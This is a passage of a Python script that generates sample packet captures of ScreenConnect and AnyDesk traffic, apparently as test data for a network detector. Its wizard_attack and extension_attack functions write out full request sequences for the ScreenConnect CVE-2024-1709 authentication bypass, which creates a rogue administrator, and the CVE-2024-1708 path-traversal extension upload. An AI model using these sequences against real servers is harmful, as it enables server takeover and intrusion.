    captured, port = anydesk_direct(env, env.frontdesk, env.lab_peer, 203)
    return readdress(
        captured,
        port,
        Endpoint("10.20.0.31", 50331),
        Endpoint("10.20.0.77", 7070),
        start_ns=T0,
        rtt_ns=LAN_RTT,
        idle_ns=15 * SECOND,
    )


def build_ad_direct_inbound(env: Env) -> list[Frame]:
    captured, port = anydesk_direct(env, env.outside_peer, env.frontdesk, 204)
    return readdress(
        captured,
        port,
        Endpoint("198.51.100.99", 61544),
        Endpoint("10.20.0.31", 7070),
        start_ns=T0,
        rtt_ns=WAN_RTT,
        idle_ns=15 * SECOND,
    )


def build_ad_download() -> list[Frame]:
    client, host, server = "10.20.0.31", "download.anydesk.com", "203.0.113.50"
    frames = dns_lookup(T0, client, host, [server], sport=53031, txid=0x2B01)
    download = TcpFlow(
        Endpoint(client, 50341), Endpoint(server, 80), T0 + 40 * MILLI, WAN_RTT, 0x5000, 0x6000
    )
    download.open()
    download.send(
        True,
        http_message(
            "GET /AnyDesk.exe HTTP/1.1",
            [
                ("Host", host),
                ("User-Agent", BROWSER_UA),
                ("Accept", "*/*"),
                ("Accept-Encoding", "gzip, deflate"),
                ("Connection", "keep-alive"),
            ],
        ),
    )
    rng = random.Random(301)
    body = DOS_STUB + rng.randbytes(2048 - len(DOS_STUB))
    download.send(
        False,
        http_message(
            "HTTP/1.1 200 OK",
            [
                ("Content-Type", "application/octet-stream"),
                ("Content-Length", str(len(body))),
                ("Date", http_date(download.t_ns)),
                ("Content-Disposition", 'attachment; filename="AnyDesk.exe"'),
            ],
            body,
        ),
    )
    download.idle(2 * SECOND)
    download.close(from_client=True)
    # The installed client itself talking HTTP: recognisable by its User-Agent only.
    agent = TcpFlow(
        Endpoint(client, 50342),
        Endpoint("203.0.113.41", 80),
        download.t_ns + 5 * SECOND,
        WAN_RTT,
        0x7000,
        0x8000,
    )
    agent.open()
    agent.send(
        True,
        http_message(
            "GET /update/check?os=windows&ver=7.1.0 HTTP/1.1",
            [("Host", "203.0.113.41"), ("User-Agent", "AnyDesk/7.1.0"), ("Accept", "*/*")],
        ),
    )
    text = b"7.1.0\n"
    agent.send(
        False,
        http_message(
            "HTTP/1.1 200 OK",
            [("Content-Type", "text/plain"), ("Content-Length", str(len(text)))],
            text,
        ),
    )
    agent.close(from_client=True)
    return frames + download.frames + agent.frames


def lv(data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + data


def anydesk_discovery(anydesk_id: int, os_code: int, hostname: str, user: str) -> bytes:
    """LAN discovery datagram in the protocols.md 2.5 layout (all integers big-endian)."""
    return (
        b"\x3e\xd1\x01"
        + anydesk_id.to_bytes(4, "big")
        + bytes(4)
        + b"\x02"
        + bytes([os_code])
        + lv(hostname.encode("utf-8"))
        + lv(user.encode("utf-8"))
        + bytes(4)
        + lv(b"ad")
        + b"\x00"
        + lv(b"main")
        + b"\x02\xc3\x51"
    )


def build_ad_discovery() -> list[Frame]:
    group = Endpoint("239.255.102.18", 50001)
    front = Endpoint("10.20.0.31", 50001)
    lab = Endpoint("10.20.0.32", 50001)
    front_payload = anydesk_discovery(123456789, 1, "FRONTDESK-PC", "alice")
    lab_payload = anydesk_discovery(987654321, 1, "LAB-01", "bob")
    return [
        udp_frame(T0, front, group, front_payload, 0x3100),
        udp_frame(T0 + 5 * SECOND, front, group, front_payload, 0x3101),
        udp_frame(T0 + 7 * SECOND + 250 * MILLI, lab, group, lab_payload, 0x3200),
        udp_frame(T0 + 10 * SECOND, front, group, front_payload, 0x3102),
    ]


def build_neg_lookalike(env: Env) -> list[Frame]:
    client = "10.20.0.41"
    frames: list[Frame] = []
    lookups = [
        ("screenconnect.com.evil.test", "203.0.113.60"),
        ("notanydesk.com", "203.0.113.61"),
        ("anydesk.com.example.net", "203.0.113.62"),
    ]
    for i, (qname, addr) in enumerate(lookups):
        frames += dns_lookup(
            T0 + i * 300 * MILLI, client, qname, [addr], sport=53041 + i, txid=0x3A01 + i
        )
    for i, (sni, addr) in enumerate(lookups[:2]):
        cred = env.pki.issue(env.workdir, sni, 0x3001 + i)
        request = http_message("GET / HTTP/1.1", [("Host", sni), ("User-Agent", BROWSER_UA)])
        run = TlsRun(
            web_server_ctx(cred),
            web_client_ctx(env.pki),
            sni,
            ((request, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),),
        )
        captured, port = record_tls(run, env.workdir)
        frames += readdress(
            captured,
            port,
            Endpoint(client, 50411 + i),
            Endpoint(addr, 443),
            start_ns=T0 + (2 + 3 * i) * SECOND,
            rtt_ns=WAN_RTT,
            idle_ns=SECOND,
        )
    return frames


def build_neg_tls_ports(env: Env) -> list[Frame]:
    cred = env.pki.issue(env.workdir, "intranet.example", 0x4001)
    frames: list[Frame] = []
    for i, port in enumerate((8041, 7070)):
        request = http_message("GET /status HTTP/1.1", [("Host", "intranet.example")])
        run = TlsRun(
            web_server_ctx(cred),
            web_client_ctx(env.pki),
            "intranet.example",
            ((request, b"HTTP/1.1 204 No Content\r\n\r\n"),),
        )
        captured, lo_port = record_tls(run, env.workdir)
        frames += readdress(
            captured,
            lo_port,
            Endpoint("10.20.0.41", 50421 + i),
            Endpoint("10.20.5.10", port),
            start_ns=T0 + 3 * i * SECOND,
            rtt_ns=LAN_RTT,
            idle_ns=SECOND,
        )
    return frames


def build_neg_udp() -> list[Frame]:
    rng = random.Random(501)
    src = Endpoint("10.20.0.41", 50001)
    random_payload = rng.randbytes(64)
    while random_payload[:2] == b"\x3e\xd1":
        random_payload = rng.randbytes(64)
    too_short = b"\x3e\xd1\x01" + (4242).to_bytes(4, "big") + bytes(4)  # ends before byte 13
    absurd = b"\x3e\xd1\x01" + (4242).to_bytes(4, "big") + bytes(4) + b"\x02\x01"
    absurd += (0xFFFFFFF0).to_bytes(4, "big") + b"HOST" + bytes(8)
    cases = [
        (Endpoint("10.20.255.255", 50001), random_payload),
        (Endpoint("239.255.102.18", 50001), too_short),
        (Endpoint("239.255.102.18", 50001), absurd),
        (Endpoint("10.20.0.77", 50002), rng.randbytes(120)),
        (Endpoint("10.20.0.77", 50002), too_short[:9]),
    ]
    return [
        udp_frame(T0 + i * 2 * SECOND, src, dst, payload, 0x5100 + i)
        for i, (dst, payload) in enumerate(cases)
    ]


def build_neg_0x87() -> list[Frame]:
    rng = random.Random(601)
    not_zero = bytes([0x87, 0x15, 0x10, 0x00]) + bytes(11) + b"\x01" + rng.randbytes(120)
    not_zero_443 = bytes([0x87, 0x15, 0x10, 0x00, 0x5A]) + bytes(11) + rng.randbytes(200)
    short_head = bytes([0x87, 0x00, 0x00, 0x00]) + rng.randbytes(150)
    cases = [
        (Endpoint("198.51.100.70", 8041), not_zero),
        (Endpoint("203.0.113.70", 443), not_zero_443),
        (Endpoint("198.51.100.71", 8041), short_head),
    ]
    frames: list[Frame] = []
    for i, (server, hello) in enumerate(cases):
        flow = TcpFlow(
            Endpoint("10.20.0.41", 50431 + i),
            server,
            T0 + i * 3 * SECOND,
            WAN_RTT,
            0x61000000 + i,
            0x62000000 + i,
        )
        flow.open()
        flow.send(True, hello)
        flow.send(False, rng.randbytes(64))
        if i == 2:
            flow.reset(from_client=False)
        else:
            flow.close(from_client=True)
        frames += flow.frames
    return frames


# --------------------------------------------------------------------------------------------
# The 2023 incident and ScreenConnect exploitation (protocols.md 1.5-1.7 and 1.9)

SC_SERVER_2397 = "ScreenConnect/23.9.7.8804"  # the last build before the 23.9.8 fix (1.6)
VENDOR = Endpoint("198.51.100.7", 8040)  # support.vendor.example, not updated since 2019 (1.9)
CLINIC = Endpoint("10.20.5.20", 8040)  # our own on-prem server
CLINIC_HOST = "control.clinic.example"
OTHER = Endpoint("198.51.100.80", 8040)  # someone else's server
OTHER_HOST = "help.other-msp.example"
ATTACKER = "203.0.113.66"
INSIDE_ATTACKER = "10.20.0.71"
WIZARD_PATH = "/SetupWizard.aspx/literallyanything"
EXTENSION_GUID = "7f3c2a91-5b4e-4d0a-9c8e-1e2f3a4b5c6d"  # the attacker's extension folder
NORMAL_EXTENSION = "2d558935-686a-4f8b-a8e9-4c3c5b1a6b7c"  # an installed, ordinary extension
EVIL_HANDLER = "evil.ashx"
NEW_ADMIN = ("svc_backup", "svc_backup@mail.example", "Spring2024!backup")
HTML = "text/html; charset=utf-8"


def sc_response(
    flow: TcpFlow,
    status: str,
    server: str,
    content_type: str,
    body: bytes,
    extra: Sequence[tuple[str, str]] = (),
) -> bytes:
    """A response head as the ScreenConnect web server writes it, Server header included (1.5)."""
    headers = [
        ("Cache-Control", "private"),
        ("Content-Type", content_type),
        *extra,
        ("Server", server),
        ("Date", http_date(flow.t_ns)),
        ("Content-Length", str(len(body))),
    ]
    return http_message(f"HTTP/1.1 {status}", headers, body)


def browser_headers(host: str, connection: str = "keep-alive") -> list[tuple[str, str]]:
    return [
        ("Host", f"{host}:8040"),
        ("User-Agent", BROWSER_UA),
        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("Connection", connection),
    ]


def post(path: str, headers: Sequence[tuple[str, str]], content_type: str, body: bytes) -> bytes:
    return http_message(
        f"POST {path} HTTP/1.1",
        [*headers, ("Content-Type", content_type), ("Content-Length", str(len(body)))],
        body,
    )


def build_incident_2023(env: Env) -> list[Frame]:
    """1.9: a vendor's 2019 ScreenConnect reaches a pharmacy server; AnyDesk follows for good."""
    rng = random.Random(801)
    client, host = "10.20.0.61", "support.vendor.example"
    frames = dns_lookup(T0, client, host, [VENDOR.ip], sport=53061, txid=0x1C01)
    # The guest installer, from the vendor's server: h/p/k name the relay (1.4).
    web = TcpFlow(Endpoint(client, 50611), VENDOR, T0 + 40 * MILLI, WAN_RTT, 0x61110000, 0x61220000)
    web.open()
    path = f"/Bin/ScreenConnect.ClientSetup.exe?{sc_installer_query(relay_public_key_blob(7))}"
    web.send(True, http_message(f"GET {path} HTTP/1.1", browser_headers(host, "close")))
    body = DOS_STUB + rng.randbytes(1600)
    disposition = ("Content-Disposition", "attachment; filename=ScreenConnect.ClientSetup.exe")
    web.send(
        False,
        sc_response(web, "200 OK", SC_SERVER, "application/octet-stream", body, [disposition]),
    )
    web.close(from_client=False)
    # The vendor's relay session: M1 handshake, then three minutes of traffic (1.3).
    relay = TcpFlow(
        Endpoint(client, 50612),
        Endpoint(VENDOR.ip, 8041),
        web.t_ns + 3 * SECOND,
        WAN_RTT,
        0x61330000,
        0x61440000,
    )
    relay_session(relay, sc_relay_hello(0x15, rng, 216), rng, 12, 15 * SECOND)
    # Ten minutes later AnyDesk, pushed through that session: no download, no DNS on the wire.
    run = anydesk_relay_run(env, random.Random(802), env.pharmacy)
    captured, port = record_tls(run, env.workdir)
    anydesk = readdress(
        captured,
        port,
        Endpoint(client, 50613),
        Endpoint("203.0.113.45", 443),
        start_ns=relay.t_ns + 10 * 60 * SECOND,
        rtt_ns=WAN_RTT,
        idle_ns=15 * SECOND,
    )
    return frames + web.frames + relay.frames + anydesk


def viewstate(rng: random.Random) -> str:
    return base64.b64encode(rng.randbytes(96)).decode("ascii")


def wizard_page(state: str, step: str) -> bytes:
    """The setup wizard form: hidden ASP.NET state, then the step's fields (1.7)."""
    hidden = "".join(
        f'<input type="hidden" name="{name}" id="{name}" value="{value}" />\r\n'
        for name, value in (
            ("__EVENTTARGET", ""),
            ("__EVENTARGUMENT", ""),
            ("__VIEWSTATE", state),
            ("__VIEWSTATEGENERATOR", "5F3C1A4D"),
        )
    )
    fields = {
        "start": '<input type="submit" name="ctl00$Main$wizard$StartNavigationTemplateContainer'
        'ID$StartNextButton" value="Next" />',
        "admin": "".join(
            f'<input name="ctl00$Main$wizard${box}" type="{kind}" id="ctl00_Main_wizard_{box}" />'
            for box, kind in (
                ("userNameBox", "text"),
                ("emailBox", "text"),
                ("passwordBox", "password"),
                ("verifyPasswordBox", "password"),
            )
        ),
        "done": "<p>Setup is complete.</p>",
    }[step]
    return (
        "<!DOCTYPE html>\r\n<html><head><title>ScreenConnect Setup Wizard</title></head><body>"
        f'\r\n<form method="post" action="./literallyanything" id="aspnetForm">\r\n{hidden}'
        f'<div id="ctl00_Main_wizard">{fields}</div>\r\n</form></body></html>\r\n'
    ).encode("ascii")


def wizard_attack(flow: TcpFlow, host: str, rng: random.Random) -> None:
    """CVE-2024-1709 on one keep-alive connection: the page, Next, then the new administrator."""
    headers = browser_headers(host)
    form_type = "application/x-www-form-urlencoded"
    flow.open()
    flow.send(True, http_message(f"GET {WIZARD_PATH} HTTP/1.1", headers))
    state = viewstate(rng)
    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, wizard_page(state, "start")))
    hidden = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", state),
              ("__VIEWSTATEGENERATOR", "5F3C1A4D")]  # fmt: skip
    start = [
        *hidden,
        ("ctl00$Main$wizard$StartNavigationTemplateContainerID$StartNextButton", "Next"),
    ]
    flow.send(True, post(WIZARD_PATH, headers, form_type, urllib.parse.urlencode(start).encode()))
    state = viewstate(rng)
    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, wizard_page(state, "admin")))
    user, email, password = NEW_ADMIN
    admin = [
        ("__LASTFOCUS", ""),
        *hidden[:2],
        ("__VIEWSTATE", state),
        hidden[3],
        ("ctl00$Main$wizard$userNameBox", user),
        ("ctl00$Main$wizard$emailBox", email),
        ("ctl00$Main$wizard$passwordBox", password),
        ("ctl00$Main$wizard$verifyPasswordBox", password),
        ("ctl00$Main$wizard$StepNavigationTemplateContainerID$StepNextButton", "Next"),
    ]
    flow.send(True, post(WIZARD_PATH, headers, form_type, urllib.parse.urlencode(admin).encode()))
    done = wizard_page(viewstate(rng), "done")
    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, done))
    flow.close(from_client=True)


def console_visit(flow: TcpFlow, host: str, key_seed: int) -> None:
    """Ordinary use of a server on one connection: login page, console, guest installer."""
    headers = browser_headers(host)
    flow.open()
    flow.send(True, http_message("GET /Login HTTP/1.1", headers))
    page = b"<!DOCTYPE html>\r\n<html><head><title>Login</title></head><body></body></html>\r\n"
    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, page))
    flow.send(True, http_message("GET /Host HTTP/1.1", headers))
    location = ("Location", "/Login?Reason=0&ReturnUrl=%2fHost")
    flow.send(False, sc_response(flow, "302 Found", SC_SERVER_2397, HTML, b"", [location]))
    query = sc_installer_query(relay_public_key_blob(key_seed), host)
    flow.send(
        True, http_message(f"GET /Bin/ScreenConnect.ClientSetup.exe?{query} HTTP/1.1", headers)
    )
    body = DOS_STUB + bytes(400)
    disposition = ("Content-Disposition", "attachment; filename=ScreenConnect.ClientSetup.exe")
    octets = "application/octet-stream"
    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, octets, body, [disposition]))
    flow.close(from_client=True)


def build_sc_exploit_1709() -> list[Frame]:
    rng = random.Random(901)
    attack = TcpFlow(Endpoint(ATTACKER, 41766), CLINIC, T0, WAN_RTT, 0x17090001, 0x17090002)
    wizard_attack(attack, CLINIC_HOST, rng)
    ordinary = TcpFlow(
        Endpoint("10.20.0.41", 50441), CLINIC, T0 + 20 * SECOND, LAN_RTT, 0x17090003, 0x17090004
    )
    console_visit(ordinary, CLINIC_HOST, 20)
    # One of our hosts doing the same to a server on the internet.
    outbound = TcpFlow(
        Endpoint(INSIDE_ATTACKER, 50711), OTHER, T0 + 40 * SECOND, WAN_RTT, 0x17090005, 0x17090006
    )
    wizard_attack(outbound, OTHER_HOST, rng)
    return attack.frames + ordinary.frames + outbound.frames


def malicious_extension(guid: str) -> bytes:
    """1.7: a ZIP with <guid>/Manifest.xml and the traversal entry <guid>/../evil.ashx."""
    manifest = (
        '<?xml version="1.0" encoding="utf-8"?>\r\n<ExtensionManifest>\r\n  <Version>1</Version>'
        "\r\n  <Name>backupagent</Name>\r\n  <Author>backupagent</Author>\r\n  <Components>\r\n"
        f'    <WebServiceReference SourceFile="{EVIL_HANDLER}"/>\r\n  </Components>\r\n'
        "</ExtensionManifest>\r\n"
    )
    handler = (
        '<% @ WebHandler Language="C#" Class="H" %>\r\nusing System.Web;\r\n'
        "public class H : IHttpHandler {\r\n  public bool IsReusable { get { return true; } }\r\n"
        '  public void ProcessRequest(HttpContext c) { c.Response.Write("ok"); }\r\n}\r\n'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        for entry, text in (
            (f"{guid}/Manifest.xml", manifest),
            (f"{guid}/../{EVIL_HANDLER}", handler),
        ):
            # A fixed date so the file is reproducible; ZipInfo keeps "../" as given.
            archive.writestr(zipfile.ZipInfo(entry, date_time=(2024, 3, 1, 9, 0, 0)), text)
    return buf.getvalue()


def extension_attack(
    client: str, server: Endpoint, host: str, start_ns: int, port: int, rng: random.Random
) -> list[Frame]:
    """CVE-2024-1708 as the new administrator: install, trigger, uninstall; one connection each."""
    user, _, password = NEW_ADMIN
    basic = base64.b64encode(f"{user}:{password}".encode()).decode("ascii")
    token = base64.b64encode(rng.randbytes(24)).decode("ascii")
    api = [
        ("Host", f"{host}:8040"),
        ("User-Agent", BROWSER_UA),
        ("Accept", "*/*"),
        ("Authorization", f"Basic {basic}"),
        ("X-Anti-Forgery-Token", token),
        ("Connection", "close"),
    ]
    service = "/Services/ExtensionService.ashx"
    archive = base64.b64encode(malicious_extension(EXTENSION_GUID)).decode("ascii")
    steps = [
        (f"{service}/InstallExtension", api, "application/json", f'["{archive}"]'.encode()),
        (f"/App_Extensions/{EVIL_HANDLER}", api[:4] + api[5:], "application/x-www-form-urlencoded",
         b"cmd=whoami"),
        (f"{service}/UninstallExtension", api, "application/json",
         f'["{EXTENSION_GUID}"]'.encode()),
    ]  # fmt: skip
    replies = [b"", b"ok", b""]
    frames: list[Frame] = []
    t_ns = start_ns
    for i, ((path, headers, content_type, body), reply) in enumerate(
        zip(steps, replies, strict=True)
    ):
        isn = (port << 16) + i
        flow = TcpFlow(Endpoint(client, port + i), server, t_ns, WAN_RTT, isn, isn ^ 0x5A5A0000)
        flow.open()
        flow.send(True, post(path, headers, content_type, body))
        kind = "text/plain; charset=utf-8" if reply else "application/json; charset=utf-8"
        flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, kind, reply))
        flow.close(from_client=False)
        frames += flow.frames
        t_ns = flow.t_ns + 2 * SECOND
    return frames


def build_sc_exploit_1708() -> list[Frame]:
    rng = random.Random(902)
    frames = extension_attack(ATTACKER, CLINIC, CLINIC_HOST, T0, 41780, rng)
    # A technician's browser loading an installed extension: GUID folder, no alert.
    normal = TcpFlow(
        Endpoint("10.20.0.41", 50451), CLINIC, T0 + 15 * SECOND, LAN_RTT, 0x17080001, 0x17080002
    )
    normal.open()
    path = f"/App_Extensions/{NORMAL_EXTENSION}/Web.ashx"
    normal.send(True, http_message(f"GET {path} HTTP/1.1", browser_headers(CLINIC_HOST, "close")))
    normal.send(False, sc_response(normal, "200 OK", SC_SERVER_2397, "application/json", b"{}"))
    normal.close(from_client=False)
    outbound = extension_attack(INSIDE_ATTACKER, OTHER, OTHER_HOST, T0 + 30 * SECOND, 50721, rng)
    return frames + normal.frames + outbound


# --------------------------------------------------------------------------------------------
# Output


def ordered(frames: Iterable[Frame]) -> list[Frame]:
    """Sort by time and make timestamps strictly increasing (1 us apart at least)."""
    out: list[Frame] = []
    last = -1
    for f in sorted(frames, key=lambda fr: fr.ts_ns):
        ts = max(f.ts_ns, last + MICRO)
        out.append(Frame(ts, f.pkt))
        last = ts
    return out


def write_pcap(path: Path, frames: Iterable[Frame]) -> int:
    """Classic pcap, Ethernet, microseconds."""
    rows = ordered(frames)
    with PcapWriter(str(path), linktype=1, nano=False, sync=False) as writer:
        writer.write_header(None)  # write_packet() alone does not emit the file header
        for f in rows:
            usec_total = f.ts_ns // MICRO
            writer.write_packet(bytes(f.pkt), sec=usec_total // 1_000_000, usec=usec_total % 10**6)
    return len(rows)


def shifted(frames: Iterable[Frame], offset_ns: int) -> list[Frame]:
    return [Frame(f.ts_ns + offset_ns, f.pkt) for f in frames]


def make_env(workdir: Path) -> Env:
    dh_file = workdir / "ffdhe2048.pem"
    dh_file.write_bytes(FFDHE2048_PEM)
    return Env(
        workdir=workdir,
        pki=WebPki.create(),
        frontdesk=anydesk_client_credential(workdir, "ad-frontdesk", utc(2023, 6, 5)),
        lab_peer=anydesk_client_credential(workdir, "ad-lab77", utc(2023, 9, 12)),
        outside_peer=anydesk_client_credential(workdir, "ad-outside", utc(2024, 2, 27)),
        pharmacy=anydesk_client_credential(workdir, "ad-pharmacy", utc(2024, 3, 1)),
        relay=anynet_relay_credential(workdir),
        dh_file=dh_file,
    )


def parse_args(argv: Sequence[str] | None, names: Sequence[str]) -> list[str]:
    parser = argparse.ArgumentParser(description="Write the sample captures into pcaps/.")
    parser.add_argument(
        "files",
        nargs="*",
        metavar="FILE",
        help="write only these (default: all, then demo-mixed.pcap); TLS files get new keys",
    )
    files: list[str] = parser.parse_args(argv).files
    unknown = sorted(set(files) - set(names))
    if unknown:
        parser.error(f"unknown capture {', '.join(unknown)} (known: {', '.join(names)})")
    return files or list(names)


def main(argv: Sequence[str] | None = None) -> None:
    with tempfile.TemporaryDirectory(prefix="rmm-pcaps-") as tmp:
        env = make_env(Path(tmp))
        builders: list[tuple[str, Callable[[], list[Frame]]]] = [
            ("sc-relay-m1-8041.pcap", build_sc_relay_m1),
            ("sc-relay-m2-443.pcap", build_sc_relay_m2),
            ("sc-relay-m3.pcap", build_sc_relay_m3),
            ("sc-relay-legacy.pcap", build_sc_relay_legacy),
            ("sc-web-onprem-8040.pcap", build_sc_web_onprem),
            ("sc-web-cloud-tls.pcap", lambda: build_sc_web_cloud_tls(env)),
            ("ad-discovery.pcap", build_ad_discovery),
            ("ad-relay-tls.pcap", lambda: build_ad_relay_tls(env)),
            ("ad-relay-6568.pcap", lambda: build_ad_relay_6568(env)),
            ("ad-direct-7070.pcap", lambda: build_ad_direct_7070(env)),
            ("ad-direct-inbound.pcap", lambda: build_ad_direct_inbound(env)),
            ("ad-download.pcap", build_ad_download),
            ("neg-lookalike-names.pcap", lambda: build_neg_lookalike(env)),
            ("neg-tls-8041-7070.pcap", lambda: build_neg_tls_ports(env)),
            ("neg-udp-50001.pcap", build_neg_udp),
            ("neg-0x87-not-relay.pcap", build_neg_0x87),
            ("incident-2023.pcap", lambda: build_incident_2023(env)),
            ("sc-exploit-cve-2024-1709.pcap", build_sc_exploit_1709),
            ("sc-exploit-cve-2024-1708.pcap", build_sc_exploit_1708),
        ]
        selected = set(parse_args(argv, [n for n, _ in builders]))
        built: dict[str, list[Frame]] = {}
        for filename, build in builders:
            if filename not in selected:
                continue
            built[filename] = build()
            count = write_pcap(OUT_DIR / filename, built[filename])
            print(f"{filename}: {count} packets")
        parts = ("sc-web-onprem-8040.pcap", "sc-relay-m1-8041.pcap", "ad-relay-tls.pcap",
                 "neg-lookalike-names.pcap")  # fmt: skip
        if not all(p in built for p in parts):
            return  # the demo must hold the same TLS sessions as the files it merges
        # Web download, relay session, AnyDesk relay and look-alikes overlapping in ~75 seconds.
        demo = (
            shifted(built["sc-web-onprem-8040.pcap"], 0)
            + shifted(built["sc-relay-m1-8041.pcap"], 6 * SECOND)
            + shifted(built["ad-relay-tls.pcap"], 14 * SECOND)
            + shifted(built["neg-lookalike-names.pcap"], 31 * SECOND)
        )
        print(f"demo-mixed.pcap: {write_pcap(OUT_DIR / 'demo-mixed.pcap', demo)} packets")


if __name__ == "__main__":
    main()
